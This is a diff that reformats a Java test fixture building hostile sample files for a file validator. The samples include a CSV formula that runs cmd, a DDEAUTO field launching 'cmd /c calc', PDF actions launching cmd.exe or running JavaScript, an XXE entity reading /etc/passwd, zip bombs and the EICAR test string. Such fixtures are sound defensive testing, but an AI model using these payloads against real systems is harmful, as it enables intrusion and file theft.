@@ -78,23 +78,39 @@ final class HostileFiles {
                 file("program called a document", "letter.pdf", program(), EXTENSION_AND_CONTENT_DIFFER),
                 file("picture called a document", "letter.pdf", Pictures.png(), EXTENSION_AND_CONTENT_DIFFER),
                 file("document called a picture", "map.jpg", Pdfs.plain(), EXTENSION_AND_CONTENT_DIFFER),
-                file("archive called a text document", "letter.docx", Zips.zip(Map.of("a.txt", new byte[9])),
+                file(
+                        "archive called a text document",
+                        "letter.docx",
+                        Zips.zip(Map.of("a.txt", new byte[9])),
                         EXTENSION_AND_CONTENT_DIFFER),
-                file("spreadsheet's name on a text document", "list.xlsx", Zips.zip(Zips.docx()),
+                file(
+                        "spreadsheet's name on a text document",
+                        "list.xlsx",
+                        Zips.zip(Zips.docx()),
                         EXTENSION_AND_CONTENT_DIFFER),
                 file("encrypted office container", "letter.docx", ole(), EXTENSION_AND_CONTENT_DIFFER),
-                text("page called a text", "letter.txt", "<!DOCTYPE html><html><script>x</script></html>",
+                text(
+                        "page called a text",
+                        "letter.txt",
+                        "<!DOCTYPE html><html><script>x</script></html>",
                         EXTENSION_AND_CONTENT_DIFFER),
                 file("nothing", "letter.pdf", new byte[0], EMPTY));
     }
 
     private static Stream<Hostile> texts() {
         return Stream.of(
-                text("script behind harmless words", "letter.txt", "Dear all,\n".repeat(20) + "<script>x()</script>",
+                text(
+                        "script behind harmless words",
+                        "letter.txt",
+                        "Dear all,\n".repeat(20) + "<script>x()</script>",
                         ACTIVE_CONTENT),
                 text("formula that calls a program", "list.csv", "name,mark\n=cmd|' /C calc'!A0,1\n", ACTIVE_CONTENT),
                 text("formula behind quotes", "list.csv", "a,b\n1,\"@SUM(1+1)*cmd\"\n", ACTIVE_CONTENT),
-                file("text that is none", "letter.txt", "binary\0\0\1\2\3".getBytes(UTF_8), EXTENSION_AND_CONTENT_DIFFER),
+                file(
+                        "text that is none",
+                        "letter.txt",
+                        "binary\0\0\1\2\3".getBytes(UTF_8),
+                        EXTENSION_AND_CONTENT_DIFFER),
                 file("broken UTF-8", "letter.txt", new byte[] {'a', 'b', (byte) 0xc3, (byte) 0x28, 'c'}, UNREADABLE),
                 text("test virus", "letter.txt", eicar(), MALWARE),
                 docx("test virus inside a document", Zips.docx("word/notes.xml", eicar()), MALWARE));
@@ -119,13 +135,22 @@ final class HostileFiles {
                 pdf("script on opening", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""),
                 pdf("program started", "/OpenAction << /S /Launch /F (cmd.exe) >>", ""),
                 pdf("actions of a page", "", "/AA << /O << /S /URI /URI (http://x.test) >> >>"),
-                pdf("form that is sent", "", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://x.test) >> >>]"),
+                pdf(
+                        "form that is sent",
+                        "",
+                        "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://x.test) >> >>]"),
                 pdf("embedded file", "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", ""),
                 pdf("form in XML", "/AcroForm << /XFA [(a) 4 0 R] >>", ""),
-                file("document elsewhere", "letter.pdf",
-                        Pdfs.pdf("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share) >>", ""), EXTERNAL_REFERENCE),
-                file("stream elsewhere", "letter.pdf",
-                        Pdfs.pdf("", "/Contents 4 0 R", Pdfs.stream("/F (http://x.test/a)", "q Q")), EXTERNAL_REFERENCE),
+                file(
+                        "document elsewhere",
+                        "letter.pdf",
+                        Pdfs.pdf("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share) >>", ""),
+                        EXTERNAL_REFERENCE),
+                file(
+                        "stream elsewhere",
+                        "letter.pdf",
+                        Pdfs.pdf("", "/Contents 4 0 R", Pdfs.stream("/F (http://x.test/a)", "q Q")),
+                        EXTERNAL_REFERENCE),
                 file("encrypted document", "letter.pdf", encrypted(), ENCRYPTED),
                 file("document cut short", "letter.pdf", Arrays.copyOf(whole, whole.length - 60), UNREADABLE),
                 file("head of a document alone", "letter.pdf", "%PDF-1.7\n%%EOF\n".getBytes(UTF_8), UNREADABLE),
@@ -137,27 +162,50 @@ final class HostileFiles {
     }
 
     private static Stream<Hostile> offices() {
-        var external = "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
-                + " Target=\"http://x.test/t.dotm\" TargetMode=\"External\"/>";
+        var external =
+                "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
+                        + " Target=\"http://x.test/t.dotm\" TargetMode=\"External\"/>";
         return Stream.of(
                 docx("macro", Zips.docx("word/vbaProject.bin", "x"), ACTIVE_CONTENT),
-                docx("macro by type", Zips.docx("[Content_Types].xml",
-                        Zips.types("application/vnd.ms-word.document.macroEnabled.main+xml")), ACTIVE_CONTENT),
+                docx(
+                        "macro by type",
+                        Zips.docx(
+                                "[Content_Types].xml",
+                                Zips.types("application/vnd.ms-word.document.macroEnabled.main+xml")),
+                        ACTIVE_CONTENT),
                 docx("embedded object", Zips.docx("word/embeddings/oleObject1.bin", "x"), ACTIVE_CONTENT),
                 docx("page inside", Zips.docx("word/part.html", "<script>"), ACTIVE_CONTENT),
-                docx("template from elsewhere", Zips.docx("word/_rels/settings.xml.rels",
-                        Zips.rels(external.formatted("attachedTemplate"))), EXTERNAL_REFERENCE),
-                docx("picture from elsewhere", Zips.docx("word/_rels/document.xml.rels",
-                        Zips.rels(external.formatted("image"))), EXTERNAL_REFERENCE),
-                docx("link to a share", Zips.docx("word/_rels/document.xml.rels",
-                        Zips.rels(external.formatted("hyperlink").replace("http://x.test", "file://host"))), EXTERNAL_REFERENCE),
-                docx("field that runs a program", Zips.docx("word/document.xml",
-                        Zips.document("<w:p><w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r></w:p>")), EXTERNAL_REFERENCE),
+                docx(
+                        "template from elsewhere",
+                        Zips.docx("word/_rels/settings.xml.rels", Zips.rels(external.formatted("attachedTemplate"))),
+                        EXTERNAL_REFERENCE),
+                docx(
+                        "picture from elsewhere",
+                        Zips.docx("word/_rels/document.xml.rels", Zips.rels(external.formatted("image"))),
+                        EXTERNAL_REFERENCE),
+                docx(
+                        "link to a share",
+                        Zips.docx(
+                                "word/_rels/document.xml.rels",
+                                Zips.rels(external.formatted("hyperlink").replace("http://x.test", "file://host"))),
+                        EXTERNAL_REFERENCE),
+                docx(
+                        "field that runs a program",
+                        Zips.docx(
+                                "word/document.xml",
+                                Zips.document("<w:p><w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r></w:p>")),
+                        EXTERNAL_REFERENCE),
                 docx("a billion laughs", Zips.docx("word/document.xml", laughs()), DECLARES_ENTITIES),
-                docx("a file read by entity", Zips.docx("word/document.xml",
-                        "<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><a>&f;</a>"), DECLARES_ENTITIES),
-                docx("a type from elsewhere", Zips.docx("word/document.xml",
-                        "<!DOCTYPE a SYSTEM 'http://x.test/a.dtd'><a/>"), DECLARES_ENTITIES),
+                docx(
+                        "a file read by entity",
+                        Zips.docx(
+                                "word/document.xml",
+                                "<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><a>&f;</a>"),
+                        DECLARES_ENTITIES),
+                docx(
+                        "a type from elsewhere",
+                        Zips.docx("word/document.xml", "<!DOCTYPE a SYSTEM 'http://x.test/a.dtd'><a/>"),
+                        DECLARES_ENTITIES),
                 docx("elements without end", Zips.docx("word/document.xml", "<a>".repeat(100_000)), UNREADABLE),
                 docx("zip bomb", Zips.docx("word/document.xml", " ".repeat(40 << 20)), UNPACKS_TOO_LARGE),
                 docx("nested zip bomb", nested(), ACTIVE_CONTENT),
@@ -172,11 +220,21 @@ final class HostileFiles {
                 file("picture and archive", "map.jpg", joined(Pictures.jpeg(), zip), SEVERAL_FORMATS),
                 file("PNG and archive", "map.png", joined(Pictures.png(), zip), SEVERAL_FORMATS),
                 file("PDF and archive", "letter.pdf", joined(Pdfs.plain(), zip), SEVERAL_FORMATS),
-                file("PDF and page", "letter.pdf", joined(Pdfs.plain(), "<script>x</script>".getBytes(UTF_8)),
+                file(
+                        "PDF and page",
+                        "letter.pdf",
+                        joined(Pdfs.plain(), "<script>x</script>".getBytes(UTF_8)),
                         SEVERAL_FORMATS),
-                file("picture and page", "map.jpg", joined(Pictures.jpeg(), "<?php x();".getBytes(UTF_8)), SEVERAL_FORMATS),
-                file("PDF inside a picture", "map.png",
-                        Pictures.withChunk(Pictures.png(), "teXt", Pdfs.plain()), SEVERAL_FORMATS),
+                file(
+                        "picture and page",
+                        "map.jpg",
+                        joined(Pictures.jpeg(), "<?php x();".getBytes(UTF_8)),
+                        SEVERAL_FORMATS),
+                file(
+                        "PDF inside a picture",
+                        "map.png",
+                        Pictures.withChunk(Pictures.png(), "teXt", Pdfs.plain()),
+                        SEVERAL_FORMATS),
                 file("document with something behind it", "letter.docx", joined(docx, new byte[40]), SEVERAL_FORMATS),
                 file("two documents in one", "letter.docx", joined(docx, docx), SEVERAL_FORMATS));
     }
@@ -188,11 +246,13 @@ final class HostileFiles {
     }
 
     private static byte[] program() {
-        return joined("MZ\u0090\0\3\0\0\0\4\0\0\0".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1), new byte[500]);
+        return joined(
+                "MZ\u0090\0\3\0\0\0\4\0\0\0".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1), new byte[500]);
     }
 
     private static byte[] ole() {
-        var head = new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1};
+        var head =
+                new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1};
         return joined(joined(head, new byte[504]), "EncryptedPackage".getBytes(UTF_16LE));
     }
 
